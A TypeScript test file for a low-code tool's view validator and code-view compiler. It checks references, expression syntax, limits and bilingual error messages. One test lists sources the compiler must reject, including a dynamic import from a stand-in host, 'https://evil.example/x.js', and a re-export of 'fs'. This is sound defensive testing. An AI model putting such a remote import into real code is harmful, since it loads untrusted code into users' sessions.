/** The save-time checks of a view, one rule at a time (shared/domain/views/validate-view.ts). */
import { describe, expect, it } from 'vitest';
import {
  demoGrpcActions,
  demoHttpActions,
  demoScriptActions,
  demoSqlActions,
} from '../../local/demo-definitions.ts';
import {
  demoOperationsActions,
  demoOperationsGroup,
  demoOperationsView,
} from '../../local/demo-operations.ts';
import { demoViewActions, demoViews } from '../../local/demo-views.ts';
import { type ViewInput, viewInputSchema, viewLimits } from '../../shared/domain/definitions/view.ts';
import { compileCodeView } from '../../shared/domain/views/compile-code-view.ts';
import { maxBodyNesting, refuseDeepNesting } from '../../shared/domain/views/nesting.ts';
import { checkView, type ViewReferenceContext } from '../../shared/domain/views/validate-view.ts';

const context: ViewReferenceContext = {
  actions: new Map([
    [
      'list',
      {
        id: 'list',
        parameters: [
          { name: 'limit', kind: 'number' },
          { name: 'offset', kind: 'number' },
        ],
      },
    ],
    ['ship', { id: 'ship', parameters: [{ name: 'id', kind: 'number' }] }],
  ]),
  viewIds: new Set(['other']),
  groupIds: new Set(['ops']),
};

const view = (definition: Record<string, unknown>, extra: Record<string, unknown> = {}): ViewInput =>
  viewInputSchema.parse({ id: 'v', name: 'V', definition: { kind: 'visual', ...definition }, ...extra });

const layout = (children: Record<string, unknown>[]) => ({ id: 'root', type: 'grid', columns: 1, children });
const listQuery = { id: 'q', actionId: 'list', arguments: {} };

const pointers = (input: ViewInput) => checkView(input, context).map((p) => p.pointer);

describe('view validation', () => {
  it('accepts a view whose every reference resolves', () => {
    const input = view(
      {
        queries: [
          { ...listQuery, paging: { limitParameter: 'limit', offsetParameter: 'offset', pageSize: 10 } },
        ],
        layout: layout([
          {
            id: 't',
            type: 'table',
            query: 'q',
            rowClick: [
              {
                type: 'runAction',
                actionId: 'ship',
                arguments: { id: 'row.id' },
                onSuccess: [{ type: 'refresh', queries: ['q'] }],
              },
            ],
            rowMenu: [{ label: 'Open', events: [{ type: 'navigate', to: { view: 'other' } }] }],
          },
          { id: 'self', type: 'button', label: 'Me', events: [{ type: 'navigate', to: { view: 'v' } }] },
        ]),
      },
      { groupId: 'ops' },
    );
    expect(checkView(input, context)).toEqual([]);
  });

  it('refuses duplicate query, component, parameter and form field names', () => {
    const input = view({
      parameters: [
        { name: 'a', kind: 'text' },
        { name: 'a', kind: 'number' },
      ],
      queries: [listQuery, listQuery],
      layout: layout([
        { id: 'x', type: 'text', content: 'a' },
        {
          id: 'x',
          type: 'form',
          fields: [
            { name: 'f', type: 'text' },
            { name: 'f', type: 'text' },
          ],
          submit: [],
        },
      ]),
    });
    expect(pointers(input).sort()).toEqual(
      [
        '#/definition/parameters/1/name',
        '#/definition/queries/1/id',
        '#/definition/layout/children/1/id',
        '#/definition/layout/children/1/fields/1/name',
      ].sort(),
    );
  });

  it('needs exactly one of query and value on tables and details, and of fromAction and fields on forms', () => {
    const input = view({
      queries: [listQuery],
      layout: layout([
        { id: 'a', type: 'table', query: 'q', value: 'queries.q.rows' },
        { id: 'b', type: 'detail' },
        { id: 'c', type: 'form', submit: [] },
        { id: 'd', type: 'form', fromAction: 'ship', fields: [{ name: 'x', type: 'text' }], submit: [] },
      ]),
    });
    expect(pointers(input)).toEqual([
      '#/definition/layout/children/0/value',
      '#/definition/layout/children/1/query',
      '#/definition/layout/children/2/fields',
      '#/definition/layout/children/3/fields',
    ]);
  });

  it('checks standalone inputs: choices only on selects, one source of them, known queries, events and expressions', () => {
    const input = view({
      queries: [listQuery],
      layout: layout([
        { id: 'ok1', type: 'input', inputType: 'select', optionsQuery: 'q', optionValue: 'id' },
        {
          id: 'ok2',
          type: 'input',
          inputType: 'text',
          default: "'paid'",
          onChange: [{ type: 'runQuery', query: 'q' }],
        },
        { id: 'none', type: 'input', inputType: 'multiselect' },
        {
          id: 'both',
          type: 'input',
          inputType: 'select',
          options: [{ value: 1, label: 'One' }],
          optionsQuery: 'q',
        },
        { id: 'notASelect', type: 'input', inputType: 'checkbox', options: [{ value: 1, label: 'One' }] },
        { id: 'ghost', type: 'input', inputType: 'select', optionsQuery: 'nope' },
        { id: 'badEvent', type: 'input', inputType: 'date', onChange: [{ type: 'runQuery', query: 'nope' }] },
        { id: 'badDefault', type: 'input', inputType: 'number', default: 'components.missing.value' },
      ]),
    });
    expect(pointers(input)).toEqual([
      '#/definition/layout/children/2/options',
      '#/definition/layout/children/3/options',
      '#/definition/layout/children/4/options',
      '#/definition/layout/children/5/optionsQuery',
      '#/definition/layout/children/6/onChange/0/query',
      '#/definition/layout/children/7/default',
    ]);
    expect(() => view({ layout: layout([{ id: 'i', type: 'input', inputType: 'colour' }]) })).toThrow();
    expect(() =>
      view({ layout: layout([{ id: 'i', type: 'input', inputType: 'text', debounceMs: 60_000 }]) }),
    ).toThrow();
  });

  it('checks toast messages and confirmation questions as templates naming what exists', () => {
    const input = view({
      queries: [listQuery],
      layout: layout([
        {
          id: 'b',
          type: 'button',
          label: 'Go',
          events: [
            {
              type: 'runAction',
              actionId: 'ship',
              arguments: { id: '1' },
              confirm: 'Ship {{ components.b.value }}?',
              onSuccess: [{ type: 'toast', message: 'Shipped {{ queries.q.rows.length }}', kind: 'success' }],
            },
            { type: 'toast', message: '{{ queries.nope.rows }}' },
            {
              type: 'runAction',
              actionId: 'ship',
              arguments: { id: '1' },
              confirm: 'Sure {{ components.ghost.value }}',
            },
            { type: 'toast', message: 'Broken {{ ( }}' },
          ],
        },
      ]),
    });
    expect(pointers(input)).toEqual([
      '#/definition/layout/children/0/events/1/message',
      '#/definition/layout/children/0/events/2/confirm',
      '#/definition/layout/children/0/events/3/message',
    ]);
    expect(() =>
      view({
        layout: layout([{ id: 'b', type: 'button', label: 'x', events: [{ type: 'toast', message: '' }] }]),
      }),
    ).toThrow();
    expect(() =>
      view({
        layout: layout([
          { id: 'b', type: 'button', label: 'x', events: [{ type: 'toast', message: 'a', kind: 'loud' }] },
        ]),
      }),
    ).toThrow();
  });

  it('checks modals: open and close events name a modal of the view, its children are checked', () => {
    const input = view({
      layout: layout([
        {
          id: 'b',
          type: 'button',
          label: 'Open',
          events: [
            { type: 'openModal', modal: 'm1' },
            { type: 'openModal', modal: 'b' },
            { type: 'closeModal', modal: 'nope' },
          ],
        },
        {
          id: 'm1',
          type: 'modal',
          variant: 'drawer',
          children: [{ id: 'inner', type: 'text', content: '{{ components.ghost.value }}' }],
        },
      ]),
    });
    expect(pointers(input)).toEqual([
      '#/definition/layout/children/0/events/1/modal',
      '#/definition/layout/children/0/events/2/modal',
      '#/definition/layout/children/1/children/0/content',
    ]);
    expect(() =>
      view({ layout: layout([{ id: 'm', type: 'modal', variant: 'popup', children: [] }]) }),
    ).toThrow();
  });

  it('checks state first values and setState values as expressions, timers against queries and the 5 s minimum', () => {
    const input = view({
      queries: [listQuery],
      state: { ok: '1', bad: 'components.ghost.value' },
      timers: [{ everySeconds: 5, queries: ['q', 'nope'] }],
      layout: layout([
        {
          id: 'b',
          type: 'button',
          label: 'x',
          events: [
            { type: 'setState', name: 'ok', value: 'state.ok + 1' },
            { type: 'setState', name: 'ok', value: '((' },
          ],
        },
      ]),
    });
    expect(pointers(input)).toEqual([
      '#/definition/timers/0/queries/1',
      '#/definition/state/bad',
      '#/definition/layout/children/0/events/1/value',
    ]);
    expect(() => view({ timers: [{ everySeconds: 4, queries: ['q'] }], layout: layout([]) })).toThrow();
  });

  it('checks arguments and paging parameters against the action', () => {
    const input = view({
      queries: [
        {
          id: 'q',
          actionId: 'list',
          arguments: { limit: '1', nope: '2' },
          paging: { limitParameter: 'size', offsetParameter: 'size', pageSize: 5 },
        },
      ],
      layout: layout([]),
    });
    expect(pointers(input).sort()).toEqual(
      [
        '#/definition/queries/0/arguments/nope',
        '#/definition/queries/0/paging/limitParameter',
        '#/definition/queries/0/paging/offsetParameter',
        '#/definition/queries/0/paging/offsetParameter',
      ].sort(),
    );
  });

  it('refuses events nested deeper than the limit through onSuccess', () => {
    let events: Record<string, unknown>[] = [{ type: 'refresh' }];
    for (let i = 0; i < viewLimits.maxEventDepth; i++) {
      events = [{ type: 'runAction', actionId: 'ship', onSuccess: events }];
    }
    const ok = view({ layout: layout([{ id: 'b', type: 'button', label: 'B', events }]) });
    expect(checkView(ok, context)).toEqual([]);
    const deeper = view({
      layout: layout([
        {
          id: 'b',
          type: 'button',
          label: 'B',
          events: [{ type: 'runAction', actionId: 'ship', onSuccess: events }],
        },
      ]),
    });
    const [problem] = checkView(deeper, context);
    expect(problem!.pointer).toBe(`#/definition/layout/children/0/events/0${'/onSuccess/0'.repeat(6)}`);
    expect(problem!.ja).toContain('onSuccess');
  });

  it('counts components, nested ones included', () => {
    const many = Array.from({ length: 25 }, (_, g) =>
      layout(Array.from({ length: 20 }, (_, i) => ({ id: `t${g}_${i}`, type: 'text', content: '' }))),
    ).map((grid, g) => ({ ...grid, id: `g${g}` }));
    const [problem, ...rest] = checkView(view({ layout: layout(many) }), context);
    expect(rest).toEqual([]);
    expect(problem!.detail).toBe(`the layout has more than ${viewLimits.maxComponents} components`);
  });

  it('limits tabs nesting like grids', () => {
    let component: Record<string, unknown> = { id: 'leaf', type: 'text', content: '' };
    for (let i = 0; i < viewLimits.maxDepth; i++) {
      component = { id: `tabs${i}`, type: 'tabs', tabs: [{ label: 'T', children: [component] }] };
    }
    const [problem] = checkView(view({ layout: component }), context);
    expect(problem!.pointer).toBe(`#/definition/layout${'/tabs/0/children/0'.repeat(20)}`);
  });

  it('refuses a definition over the size limit', () => {
    const huge = 'x'.repeat(99_000);
    const input = view({
      layout: layout([
        { id: 'a', type: 'markdown', content: huge },
        { id: 'b', type: 'markdown', content: huge },
      ]),
    });
    expect(pointers(input)).toEqual(['#/definition']);
  });

  it('refuses unknown actions of a code view and duplicates among them', () => {
    const input = viewInputSchema.parse({
      id: 'c',
      name: 'C',
      definition: { kind: 'code', source: 'export default () => null', actionIds: ['list', 'gone', 'list'] },
    });
    expect(pointers(input)).toEqual(['#/definition/actionIds/2', '#/definition/actionIds/1']);
  });
});

describe('expressions at save', () => {
  /** Problems as pointer → [line, column, English detail]. */
  const syntaxOf = (input: ViewInput) =>
    Object.fromEntries(checkView(input, context).map((p) => [p.pointer, [p.line, p.column, p.detail]]));

  it('refuses a syntax error in every kind of expression field, naming field, line and column', () => {
    const input = view({
      queries: [
        { ...listQuery, arguments: { limit: 'panel.args.id +' }, transformer: 'rows.map(r =>' },
        { id: 'p', actionId: 'ship', arguments: { id: 'panel.args.id' }, transformer: 'result.rows' },
      ],
      layout: layout([
        {
          id: 't',
          type: 'table',
          title: 'Orders {{ row.id + }}',
          hidden: '!components.t.value &&',
          value: 'queries.q.rows[',
          rowClick: [{ type: 'runAction', actionId: 'ship', arguments: { id: 'row.id)' } }],
          rowMenu: [
            {
              label: 'Open',
              events: [
                { type: 'navigate', to: { url: "'https://example.com/' +" }, arguments: { id: 'row.' } },
              ],
            },
          ],
        },
        { id: 'd', type: 'detail', value: '{a: }' },
        { id: 'f', type: 'form', fields: [{ name: 'x', type: 'text', default: "'abc" }], submit: [] },
        { id: 'b', type: 'button', label: 'Ship {{ }}', events: [] },
        { id: 'x', type: 'text', content: 'Total: {{ queries.q.rows.length' },
        { id: 'm', type: 'markdown', content: '# Hello\n\n{{ a b }}' },
        { id: 'i', type: 'media', url: 'panel.args.url ?' },
      ]),
    });
    const c = '#/definition/layout/children';
    expect(syntaxOf(input)).toEqual({
      '#/definition/queries/0/arguments/limit': [
        1,
        16,
        'syntax error in the expression at line 1, column 16: Expected expression after +',
      ],
      '#/definition/queries/0/transformer': [
        1,
        14,
        expect.stringMatching(/^syntax error in the expression at line 1, column 14: /),
      ],
      [`${c}/0/title`]: [
        1,
        20,
        'syntax error in the expression at line 1, column 20: Expected expression after +',
      ],
      [`${c}/0/hidden`]: [
        1,
        23,
        expect.stringMatching(/^syntax error in the expression at line 1, column 23: /),
      ],
      [`${c}/0/value`]: [
        1,
        16,
        expect.stringMatching(/^syntax error in the expression at line 1, column 16: /),
      ],
      [`${c}/0/rowClick/0/arguments/id`]: [
        1,
        7,
        expect.stringMatching(/^syntax error in the expression at line 1, column 7: /),
      ],
      [`${c}/0/rowMenu/0/events/0/to/url`]: [
        1,
        25,
        expect.stringMatching(/^syntax error in the expression at line 1, column 25: /),
      ],
      [`${c}/0/rowMenu/0/events/0/arguments/id`]: [
        1,
        5,
        expect.stringMatching(/^syntax error in the expression at line 1, column 5: /),
      ],
      [`${c}/1/value`]: [
        1,
        5,
        expect.stringMatching(/^syntax error in the expression at line 1, column 5: /),
      ],
      [`${c}/2/fields/0/default`]: [
        1,
        5,
        expect.stringMatching(/^syntax error in the expression at line 1, column 5: Unclosed quote/),
      ],
      [`${c}/3/label`]: [1, 9, 'syntax error in the expression at line 1, column 9: Expected an expression'],
      [`${c}/4/content`]: [
        1,
        8,
        "syntax error in the expression at line 1, column 8: '{{' is not closed by '}}'",
      ],
      [`${c}/5/content`]: [
        3,
        6,
        expect.stringMatching(
          /^syntax error in the expression at line 3, column 6: Only one expression is allowed/,
        ),
      ],
      [`${c}/6/url`]: [
        1,
        17,
        expect.stringMatching(/^syntax error in the expression at line 1, column 17: /),
      ],
    });
  });

  it('writes the problem in Japanese too, with the position', () => {
    const input = view({
      queries: [{ ...listQuery, arguments: { limit: 'panel.args.id +' } }],
      layout: layout([]),
    });
    expect(checkView(input, context)).toEqual([
      {
        pointer: '#/definition/queries/0/arguments/limit',
        detail: 'syntax error in the expression at line 1, column 16: Expected expression after +',
        ja: '式の 1 行 16 列で構文エラー: Expected expression after +',
        line: 1,
        column: 16,
      },
    ]);
    const unclosed = view({ layout: layout([{ id: 'x', type: 'text', content: 'a {{ b' }]) });
    expect(checkView(unclosed, context)[0]!.ja).toBe(
      "式の 1 行 3 列で構文エラー: '{{' が '}}' で閉じられていません",
    );
  });

  it('reads text fields as literal text unless they hold {{ }}, and bindings as templates when they do', () => {
    const input = view({
      queries: [
        {
          ...listQuery,
          // A binding with {{ }} is a template: the text around the hole is not an expression.
          arguments: { limit: 'Order #{{ panel.args.id }} (of {{ len(queries.q.rows) }})' },
          // A transformer is always an expression.
          // biome-ignore lint/suspicious/noTemplateCurlyInString: the expression itself is a template literal
          transformer: 'result.map(r => ({ ...r, label: `${r.id}: ${upper(r.name)}` }))',
        },
      ],
      layout: layout([
        { id: 'x', type: 'text', content: "Hello, world! (it's not an expression: +)" },
        { id: 'm', type: 'markdown', content: '# Orders\n\n- **{{ queries.q.rows.length }}** found' },
        { id: 'b', type: 'button', label: 'Ship it!', events: [] },
        { id: 'i', type: 'media', url: "'https://example.com/' + encode(row?.sku ?? '')" },
      ]),
    });
    expect(checkView(input, context)).toEqual([]);
    // The same text as a bare expression (no {{ }}) is parsed, and refused.
    const bare = view({
      queries: [{ ...listQuery, arguments: { limit: "Order #1 (it's)" } }],
      layout: layout([]),
    });
    expect(pointers(bare)).toEqual(['#/definition/queries/0/arguments/limit']);
    // Two holes in one binding are two expressions, not one from the first {{ to the last }}.
    const two = view({
      queries: [{ ...listQuery, arguments: { limit: '{{ 1 }}{{ 2 + }}' } }],
      layout: layout([]),
    });
    expect(syntaxOf(two)).toEqual({
      '#/definition/queries/0/arguments/limit': [
        1,
        15,
        'syntax error in the expression at line 1, column 15: Expected expression after +',
      ],
    });
  });

  it('holds each hole of a long template to the expression length limit', () => {
    const hole = `{{ ${'1+'.repeat(viewLimits.maxExpressionLength / 2)}1 }}`;
    const input = view({ layout: layout([{ id: 'm', type: 'markdown', content: `# Long\n${hole}` }]) });
    expect(checkView(input, context).map((p) => [p.pointer, p.detail])).toEqual([
      [
        '#/definition/layout/children/0/content',
        `syntax error in the expression at line 2, column 3: The expression is longer than ${viewLimits.maxExpressionLength} characters`,
      ],
    ]);
  });

  it('counts line and column inside a multi-line expression', () => {
    const input = view({
      queries: [{ ...listQuery, transformer: 'result.map(r => ({\n  id: r.id,\n  total: r.total *\n}))' }],
      layout: layout([]),
    });
    const [problem] = checkView(input, context);
    expect([problem!.pointer, problem!.line, problem!.column]).toEqual([
      '#/definition/queries/0/transformer',
      4,
      1,
    ]);
  });

  it('refuses queries.<id> and components.<id> the view does not have, wherever they are written', () => {
    const input = view({
      queries: [{ ...listQuery, arguments: { limit: 'components.pager.value.size' } }],
      layout: layout([
        {
          id: 't',
          type: 'table',
          query: 'q',
          hidden: "queries.orders.loading || components['gone'].value",
          rowClick: [
            { type: 'runAction', actionId: 'ship', arguments: { id: '{{ queries?.typo.rows[0].id }}' } },
          ],
        },
        { id: 'x', type: 'text', content: '{{ queries.nope.rows.length }} and {{ queries.nope.result }}' },
      ]),
    });
    expect(checkView(input, context).map((p) => [p.pointer, p.detail, p.ja])).toEqual([
      [
        '#/definition/queries/0/arguments/limit',
        "uses components.pager, but this view has no component 'pager'",
        "components.pager を使っていますが、このビューにコンポーネント 'pager' はありません",
      ],
      [
        '#/definition/layout/children/0/hidden',
        "uses queries.orders, but this view has no query 'orders'",
        "queries.orders を使っていますが、このビューにクエリ 'orders' はありません",
      ],
      [
        '#/definition/layout/children/0/hidden',
        "uses components.gone, but this view has no component 'gone'",
        "components.gone を使っていますが、このビューにコンポーネント 'gone' はありません",
      ],
      [
        '#/definition/layout/children/0/rowClick/0/arguments/id',
        "uses queries.typo, but this view has no query 'typo'",
        "queries.typo を使っていますが、このビューにクエリ 'typo' はありません",
      ],
      // Named twice in one field: one problem.
      [
        '#/definition/layout/children/1/content',
        "uses queries.nope, but this view has no query 'nope'",
        "queries.nope を使っていますが、このビューにクエリ 'nope' はありません",
      ],
    ]);
  });

  it('leaves to the renderer what depends on data: row fields, computed ids, shadowed names', () => {
    const input = view({
      queries: [{ ...listQuery, transformer: 'result.map(queries => queries.anything)' }],
      layout: layout([
        {
          id: 't',
          type: 'table',
          query: 'q',
          // A component declared later in the layout is known too.
          hidden: '!components.later.value || queries.q.rows[0].no_such_column',
          rowClick: [
            {
              type: 'runAction',
              actionId: 'ship',
              arguments: { id: 'queries[panel.args.which].rows[0].id' },
            },
          ],
        },
        { id: 'x', type: 'text', content: '{{ row.no_such_field }} {{ user.email }} {{ nothing.here }}' },
        { id: 'later', type: 'form', fields: [{ name: 'size', type: 'number', default: '20' }], submit: [] },
      ]),
    });
    expect(checkView(input, context)).toEqual([]);
  });

  it('accepts the seeded demo views', () => {
    const actions = [
      ...demoSqlActions,
      ...demoHttpActions,
      ...demoGrpcActions,
      ...demoScriptActions,
      ...demoViewActions,
      ...demoOperationsActions,
    ];
    const views = [...demoViews, demoOperationsView];
    const demo: ViewReferenceContext = {
      actions: new Map(actions.map((a) => [a.id, a])),
      viewIds: new Set(views.map((v) => v.id)),
      groupIds: new Set([demoOperationsGroup.id]),
    };
    for (const input of views) expect(checkView(viewInputSchema.parse(input), demo)).toEqual([]);
  });
});

describe('code view compilation', () => {
  it('turns TSX into an ES module with the automatic JSX runtime', () => {
    const outcome = compileCodeView(
      "import { runAction } from 'dogu';\nexport default function V(p: { n: number }) { return <b onClick={() => runAction('a', {})}>{p.n}</b>; }",
    );
    expect(outcome.ok).toBe(true);
    if (!outcome.ok) return;
    expect(outcome.compiled.code).toContain('import {jsx as _jsx} from "react/jsx-runtime"');
    expect(outcome.compiled.code).not.toContain(': { n: number }');
  });

  it('names line and column of a syntax error', () => {
    const outcome = compileCodeView('export default function V() {\n  return (<p>;\n}');
    expect(outcome).toMatchObject({ ok: false, problem: { pointer: '#/definition/source', line: 2 } });
  });

  it('refuses imports other than react and dogu, static or dynamic', () => {
    for (const source of [
      "import x from 'lodash'; export default () => x;",
      "export * from 'fs'; export default () => null;",
      "export default () => import('https://evil.example/x.js');",
    ]) {
      const outcome = compileCodeView(source);
      expect(outcome.ok, source).toBe(false);
    }
  });
});

describe('nesting guard', () => {
  it('refuses JSON nested past the bound without recursion', () => {
    let deep: unknown = 'leaf';
    for (let i = 0; i < 100_000; i++) deep = [deep];
    expect(() => refuseDeepNesting(deep)).toThrow(/nests more than/);
    let fine: unknown = 'leaf';
    for (let i = 0; i < maxBodyNesting - 1; i++) fine = [fine];
    expect(() => refuseDeepNesting(fine)).not.toThrow();
  });
});

describe('inline edit and total count (decisions 0220, 0221)', () => {
  const editable = (edit: Record<string, unknown>) =>
    view({
      queries: [
        {
          ...listQuery,
          paging: {
            limitParameter: 'limit',
            offsetParameter: 'offset',
            pageSize: 10,
            totalCount: 'rows[0]?.n',
          },
        },
      ],
      layout: layout([
        { id: 't', type: 'table', query: 'q', columns: [{ field: 'id' }, { field: 'n', edit }] },
      ]),
    });

  it('accepts an editable column whose action and arguments resolve, and a total count expression', () => {
    expect(checkView(editable({ actionId: 'ship', arguments: { id: 'row.id' } }), context)).toEqual([]);
    const select = editable({
      actionId: 'ship',
      arguments: { id: 'value' },
      inputType: 'select',
      options: [{ value: 'a', label: 'A' }],
    });
    expect(checkView(select, context)).toEqual([]);
  });

  it("refuses an edit's unknown action, unknown parameter, bad expression and a select without options", () => {
    expect(pointers(editable({ actionId: 'nope', arguments: {} }))).toEqual([
      '#/definition/layout/children/0/columns/1/edit/actionId',
    ]);
    expect(pointers(editable({ actionId: 'ship', arguments: { idd: 'row.id' } }))).toEqual([
      '#/definition/layout/children/0/columns/1/edit/arguments/idd',
    ]);
    const broken = checkView(editable({ actionId: 'ship', arguments: { id: 'value +' } }), context);
    expect(broken).toMatchObject([
      { pointer: '#/definition/layout/children/0/columns/1/edit/arguments/id', line: 1, column: 8 },
    ]);
    expect(broken[0]!.ja).toContain('構文エラー');
    expect(pointers(editable({ actionId: 'ship', arguments: { id: 'components.gone.value' } }))).toEqual([
      '#/definition/layout/children/0/columns/1/edit/arguments/id',
    ]);
    expect(pointers(editable({ actionId: 'ship', arguments: {}, inputType: 'select' }))).toEqual([
      '#/definition/layout/children/0/columns/1/edit/options',
    ]);
  });

  it('refuses a total count that does not parse or names a query the view lacks', () => {
    const input = (totalCount: string) =>
      view({
        queries: [
          {
            ...listQuery,
            paging: { limitParameter: 'limit', offsetParameter: 'offset', pageSize: 10, totalCount },
          },
        ],
        layout: layout([{ id: 't', type: 'table', query: 'q' }]),
      });
    expect(pointers(input('rows[0].'))).toEqual(['#/definition/queries/0/paging/totalCount']);
    expect(checkView(input('queries.counts.rows[0].n'), context)).toMatchObject([
      {
        pointer: '#/definition/queries/0/paging/totalCount',
        detail: expect.stringContaining("no query 'counts'"),
      },
    ]);
  });
});
